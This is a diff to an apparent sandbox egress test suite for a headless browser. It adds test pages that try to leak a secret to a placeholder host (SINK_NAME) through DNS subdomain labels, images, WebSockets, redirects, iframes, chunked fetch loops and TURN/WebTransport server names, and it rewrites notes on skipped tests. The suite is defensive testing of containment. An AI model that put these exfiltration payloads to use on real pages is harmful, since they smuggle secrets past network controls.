@@ -12,6 +12,7 @@ export const egressBrowser: Family = {
   group: 'egress',
   rows: {
     'NET-42': 'names looked up ahead',
+    'NET-101': 'names that are looked up for what is asked for',
     'NET-43': 'speculation rules that fetch',
     'NET-44': 'speculation rules that render ahead',
     'NET-47': 'reports that documents ask for',
@@ -89,6 +90,52 @@ export const egressBrowser: Family = {
       page: '<script>new WebTransport("https://SINK_HOST/t").ready.catch(() => {})</script>',
     },
     {
+      id: 'NET-74a',
+      technique: 'the name of a TURN server over TCP, which has a secret in it',
+      mustStop: 'flags',
+      page: rtc("{ urls: 'turn:SINK_NAME:3478?transport=tcp', username: 'secret', credential: 'x' }"),
+    },
+    {
+      id: 'NET-74b',
+      technique: 'the name of a TURN server over TLS',
+      mustStop: 'flags',
+      page: rtc("{ urls: 'turns:SINK_NAME:5349?transport=tcp', username: 'secret', credential: 'x' }"),
+    },
+    {
+      id: 'NET-74c',
+      technique: 'the name of a WebTransport server',
+      mustStop: 'flags',
+      page: '<script>new WebTransport("https://SINK_NAME/t").ready.catch(() => {})</script>',
+    },
+    {
+      id: 'NET-101a',
+      technique: 'an image at a name that has a secret in it',
+      page: '<img src="http://c2VjcmV0.SINK_NAME/x">',
+    },
+    {
+      id: 'NET-101b',
+      technique: 'a WebSocket to such a name',
+      page: '<script>new WebSocket("ws://c2VjcmV0.SINK_NAME/s")</script>',
+    },
+    {
+      id: 'NET-101c',
+      technique: 'twenty names at once, each with a part of a secret',
+      page: `<script>for (let n = 0; n < 20; n++) fetch('http://part-' + n + '.SINK_NAME/', { mode: 'no-cors' }).catch(() => {})</script>`,
+      tries: 20,
+      inOnePage: true,
+    },
+    {
+      id: 'NET-101d',
+      technique: 'a redirect to such a name',
+      page: '<img src="/go">',
+      files: { '/go': { status: 302, headers: { location: 'http://c2VjcmV0.SINK_NAME/r' } } },
+    },
+    {
+      id: 'NET-101e',
+      technique: 'a frame of https at such a name',
+      page: '<iframe src="https://c2VjcmV0.SINK_NAME/f"></iframe>',
+    },
+    {
       id: 'NET-79',
       technique: 'federated sign-in asks the provider for its settings',
       page: '<button style="position:fixed;inset:0;width:100%;height:100%" onclick="go()">Sign in</button><script>const go = () => navigator.credentials.get({ identity: { providers: [{ configURL: "SINK/config.json", clientId: "1" }] } }).catch(() => {}); go()</script>',
@@ -111,18 +158,13 @@ export const egressBrowser: Family = {
       instead: 'NET-79, which the browser process fetches likewise',
     },
     'NET-42': {
-      why: 'looking a name up over the network is not done here: the suite stays on the loopback',
-      instead:
-        'the flags map every name to nothing, the namespace has no resolver; `playpen doctor` says whether it stands',
+      why: 'a headless shell looks no name up ahead: with a resolver that sees every name, neither dns-prefetch nor preconnect, in the page or in a header, asks it for any',
+      instead: 'NET-101 and NET-74, in which that resolver is asked; the flags turn looking up ahead off',
     },
     'NET-48': {
       why: 'a browser takes error reporting only from an https origin with a certificate it trusts',
       instead:
         'NET-47 (reports), the test that the header is taken out (`harness/environments/mock-saas/gateway-egress.test.ts`)',
-    },
-    'NET-74': {
-      why: 'as NET-42: the names of ICE servers would have to be looked up over the network',
-      instead: 'NET-72 (the same servers by address), the flags and the namespace as for NET-42',
     },
     'NET-75': {
       why: 'a candidate is known to the page only, and leaves by none of the roads above',
